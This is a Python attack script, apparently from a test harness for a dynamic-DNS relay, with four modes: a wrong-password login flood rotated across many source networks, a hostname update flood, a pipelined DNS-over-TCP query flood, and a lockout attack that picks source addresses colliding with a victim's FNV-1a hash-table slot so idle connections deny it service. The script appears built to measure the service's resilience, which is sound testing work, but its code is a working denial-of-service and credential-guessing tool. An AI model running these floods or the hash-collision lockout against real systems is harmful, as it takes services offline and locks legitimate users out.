#!/usr/bin/python3
"""What the doors of the names are attacked with: names.py CASE RELAY arguments…, while the attack goes on. At last "rate N".

	logins  ACCOUNT RATE NETWORKS       wrong DDNS passwords, so many a second, in turn from so many networks
	updates ACCOUNT PASSWORD DOMAIN [NAMES]   right ones, each of 20 names; of so many in all, or that were never there before
	dns     CONNECTIONS SOURCES NAME    questions by TCP, as many as go, on so many connections
	lockout ADDRESS                     idle connections to the update door from addresses that share ADDRESS's place in a table of 1,024 by FNV-1a
"""
import base64
import select
import socket
import struct
import sys
import time

from attack import goes_on, ready, seconds, stranger

case, relay = sys.argv[1:3]
arguments = sys.argv[3:]


def request(account, password, query):
	login = base64.b64encode(("%s:%s" % (account, password)).encode()).decode()
	return ("GET /nic/update?%s HTTP/1.1\r\nHost: x\r\nAuthorization: Basic %s\r\nConnection: close\r\n\r\n" % (query, login)).encode()


def ask(number, at_once, make, rate=0, networks=1000):
	"""So many requests side by side; make(number) makes one. How many were begun, and what the answers' status lines were."""
	look, held, sent, answers = select.epoll(), {}, 0, {}
	ready()
	while goes_on():
		while len(held) < at_once and (not rate or sent < seconds() * rate):
			s = socket.socket()
			s.setblocking(False)
			s.bind((stranger(sent % networks), 0))
			if s.connect_ex((relay, 8245)) not in (0, 115):
				s.close()
				break
			held[s.fileno()] = s, make(sent)
			sent += 1
			look.register(s, select.EPOLLOUT)
		for fd, event in look.poll(0.005, 500):
			s, text = held[fd]
			try:
				if event & select.EPOLLOUT:
					s.send(text)
					look.modify(s, select.EPOLLIN)
					continue
				status = s.recv(4096)[9:12].decode("latin-1")
			except BlockingIOError:
				continue
			except OSError:
				status = "reset"
			answers[status] = answers.get(status, 0) + 1
			look.unregister(fd)
			del held[fd]
			s.close()
	print("answers", answers)
	return sent / seconds()


def logins(account, rate, networks):
	return ask(0, 500, lambda i: request(account, "wrong%d" % i, "myip=11.9.9.9"), int(rate), int(networks))


def updates(account, password, domain, names="1000000000"):
	def make(i):
		hosts = ",".join("u%d.%s.%s" % ((20 * i + j) % int(names), account, domain) for j in range(20))
		return request(account, password, "myip=11.9.%d.%d&hostname=%s" % (i >> 8 & 255, i & 255, hosts))
	return 20 * ask(0, 30, make, networks=20)


def dns(connections, sources, name):
	labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"
	one = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + struct.pack(">HH", 1, 1)
	many = (struct.pack(">H", len(one)) + one) * 200
	look, held, opened, bytes_back = select.epoll(), {}, 0, 0
	ready()
	while goes_on():
		while len(held) < int(connections):
			s = socket.socket()
			s.setblocking(False)
			s.bind((stranger(opened % int(sources)), 0))
			opened += 1
			if s.connect_ex((relay, 53)) not in (0, 115):
				s.close()
				break
			held[s.fileno()] = s
			look.register(s, select.EPOLLOUT | select.EPOLLIN)
		for fd, event in look.poll(0.02, 500):
			s = held[fd]
			try:
				if event & (select.EPOLLIN | select.EPOLLHUP | select.EPOLLERR):
					got = len(s.recv(1 << 16))
					bytes_back += got
					if not got:
						raise ConnectionError
				if event & select.EPOLLOUT:
					s.send(many)
			except BlockingIOError:
				pass
			except OSError:
				look.unregister(fd)
				del held[fd]
				s.close()
	print("opened", opened)
	return bytes_back / (len(one) + 18) / seconds()  # answers a second, near enough


def place(address):
	"""shared/net/http_server.c, as it was when it could be done."""
	h = 2166136261
	for byte in socket.inet_aton(address) + bytes(12):
		h = (h ^ byte) * 16777619 & 0xffffffff
	return (h ^ h >> 16) % 1024


def lockout(victim):
	wanted = place(victim)
	fellows = [a for a in (stranger(i) for i in range(20000)) if place(a) == wanted]
	held, opened = [], 0
	ready()
	while goes_on():
		for fellow in fellows:
			s = socket.socket()
			s.settimeout(1)
			s.bind((fellow, 0))
			try:
				s.connect((relay, 8245))
				s.setblocking(False)
				held.append(s)
				opened += 1
			except OSError:
				s.close()
		time.sleep(0.01)
		for s in list(held):
			try:
				if not s.recv(1):
					raise ConnectionError
			except BlockingIOError:
				pass
			except OSError:
				held.remove(s)
				s.close()
	print("held %d from %d addresses" % (len(held), len(fellows)))
	return opened / seconds()


print("rate %d" % globals()[case](*arguments))
